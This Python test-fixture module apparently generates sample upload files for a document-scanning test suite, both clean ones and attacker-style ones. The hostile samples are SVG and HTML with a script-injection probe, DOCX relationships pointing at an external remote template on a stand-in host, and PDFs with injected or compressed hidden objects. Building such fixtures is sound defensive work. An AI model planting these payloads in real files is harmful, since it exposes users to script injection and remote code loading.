"""Files as an attacker would bring them, and honest ones beside them, all made here."""

from __future__ import annotations

import zipfile
import zlib
from io import BytesIO

from PIL import Image

TYPES = "[Content_Types].xml"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><script>alert(1)</script>"


def png(size: tuple[int, int] = (8, 6)) -> bytes:
    return _image("PNG", size)


def jpeg(size: tuple[int, int] = (8, 6)) -> bytes:
    return _image("JPEG", size)


def gif() -> bytes:
    return _image("GIF", (8, 6))


def _image(kind: str, size: tuple[int, int]) -> bytes:
    stream = BytesIO()
    Image.new("RGB", size, "green").save(stream, kind)
    return stream.getvalue()


def package(entries: dict[str, bytes | str], comment: bytes = b"") -> bytes:
    """Return a zip archive of `entries` in their order."""
    stream = BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in entries.items():
            made.writestr(name, content)
        made.comment = comment
    return stream.getvalue()


def content_types(kind: str = WORD) -> str:
    return f'<Types><Override PartName="/word/document.xml" ContentType="{kind}"/></Types>'


def docx(extra: dict[str, bytes | str] | None = None, kind: str = WORD, comment: bytes = b"") -> bytes:
    return package({TYPES: content_types(kind), "word/document.xml": "<w:document/>", **(extra or {})}, comment)


def odt(kind: str = "application/vnd.oasis.opendocument.text", extra: dict[str, bytes | str] | None = None) -> bytes:
    return package({"mimetype": kind, "content.xml": "<x/>", **(extra or {})})


def relation(kind: str, target: str = "https://jahat.example.com/t.dotm", mode: str = "External") -> str:
    place = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"
    return (
        f'<Relationships><Relationship Id="r1" Type="{place}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    )


def pdf_with(body: bytes) -> bytes:
    return PDF.replace(b"endobj", body + b"\nendobj", 1)


def packed_objects(body: bytes) -> bytes:
    """Return a PDF whose objects are packed, as newer programs write them."""
    stream = zlib.compress(body)
    return pdf_with(b"\n5 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\n" + stream + b"\nendstream ")
